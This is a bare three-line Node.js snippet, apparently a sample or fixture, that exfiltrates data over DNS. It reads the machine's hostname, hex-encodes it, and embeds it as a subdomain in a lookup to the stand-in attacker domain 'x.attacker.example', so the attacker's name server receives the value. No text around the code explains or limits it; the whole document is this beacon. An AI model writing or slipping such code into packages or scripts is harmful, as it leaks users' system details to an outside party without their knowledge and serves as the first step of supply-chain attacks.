const dns = require('dns');
const data = Buffer.from(require('os').hostname()).toString('hex');
dns.resolve4(`${data}.x.attacker.example`, () => {});
